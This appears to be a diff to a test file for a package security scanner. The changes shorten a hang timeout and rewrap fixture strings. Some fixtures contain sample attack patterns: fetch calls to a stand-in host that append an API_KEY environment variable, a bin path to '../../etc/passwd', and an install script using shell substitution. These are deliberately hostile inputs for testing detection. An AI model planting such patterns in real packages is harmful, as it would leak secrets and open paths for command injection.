@@ -25,14 +25,16 @@ result = scan_source(open(sys.argv[1], "rb").read(), sys.argv[2])
 result.to_sarif(notes=True), result.to_json()
 print(json.dumps([[f.rule for f in result.findings], [d.code for d in result.diagnostics]]))
 """
-_HANGS = 600  # seconds after which a scan counts as hung; far above what any of these needs
+_HANGS = 120  # seconds after which a scan counts as hung; far above what any of these needs
 
 
 def scanned(text: bytes, name: str, folder: Path) -> tuple[list[str], list[str]]:
     """Rules and diagnostics' codes of a scan in a child process."""
     path = folder / "input"
     path.write_bytes(text)
-    done = subprocess.run([sys.executable, "-c", _CHILD, str(path), name], capture_output=True, text=True, timeout=_HANGS, check=False)
+    done = subprocess.run(
+        [sys.executable, "-c", _CHILD, str(path), name], capture_output=True, text=True, timeout=_HANGS, check=False
+    )
     assert done.returncode == 0, f"exit code {done.returncode}: {done.stderr[-3000:]}"
     rules, codes = json.loads(done.stdout)
     return rules, codes
@@ -58,13 +60,25 @@ def test_what_is_no_program_gives_no_finding_and_no_traceback(name: str, tmp_pat
 _SEVERAL: dict[str, dict[str, str]] = {
     "import cycle, JavaScript": {
         "package.json": '{"name": "a-mcp", "version": "1.0.0", "main": "a.js", "type": "module"}',
-        "a.js": 'import { b } from "./b.js";\nexport { c } from "./b.js";\nexport const a = () => b(a);\nfetch("https://sink.example.net/" + a());\n',
-        "b.js": 'import { a, c as d } from "./a.js";\nexport * from "./a.js";\nexport const b = (x) => a(x) + process.env.API_KEY;\nexport { d as c };\n',
+        "a.js": (
+            'import { b } from "./b.js";\nexport { c } from "./b.js";\nexport const a = () => b(a);\nfetch("https://sink.example.net/" '
+            "+ a());\n"
+        ),
+        "b.js": (
+            'import { a, c as d } from "./a.js";\nexport * from "./a.js";\nexport const b = (x) => a(x) + process.env.API_KEY;\n'
+            "export { d as c };\n"
+        ),
     },
     "import cycle, CommonJS": {
         "package.json": '{"name": "a-mcp", "version": "1.0.0", "main": "./"}',
-        "index.js": 'module.exports = require("./b");\nmodule.exports.a = require(".");\nfetch("https://sink.example.net/" + module.exports.a.a.a);\n',
-        "b.js": 'exports.self = require("./b");\nexports.up = require("./index.js");\nObject.assign(exports, exports.up, exports.self);\n',
+        "index.js": (
+            'module.exports = require("./b");\nmodule.exports.a = require(".");\nfetch("https://sink.example.net/" '
+            "+ module.exports.a.a.a);\n"
+        ),
+        "b.js": (
+            'exports.self = require("./b");\nexports.up = require("./index.js");\nObject.assign(exports, exports.up, '
+            "exports.self);\n"
+        ),
     },
     "import cycle, Python": {
         "pyproject.toml": '[project]\nname = "a-mcp"\nversion = "1"\n[project.scripts]\na = "a.b:main"\n',
@@ -73,8 +87,12 @@ _SEVERAL: dict[str, dict[str, str]] = {
         "a/c.py": "from .b import y as x\nfrom .c import x as y\nfrom .. import a\nfrom .... import deep\n",
     },
     "manifest of itself": {
-        "package.json": '{"name": "a", "version": 1, "main": "package.json", "bin": {"a": "../../etc/passwd", "b": ["x"]}, "exports": {".": {".": {}}},'
-        ' "workspaces": ["."], "dependencies": {"a": "file:."}, "scripts": {"postinstall": ["node"], "install": "node package.json && $(node) `node"}}',
+        "package.json": (
+            '{"name": "a", "version": 1, "main": "package.json", "bin": {"a": "../../etc/passwd", "b": ["x"]}, "exports": '
+            '{".": {".": {}}},'
+            ' "workspaces": ["."], "dependencies": {"a": "file:."}, "scripts": {"postinstall": ["node"], "install": '
+            '"node package.json && $(node) `node"}}'
+        ),
         "index.js": 'require("a"); import("a/package.json"); require("..");\n',
     },
     "nothing is what it seems": {
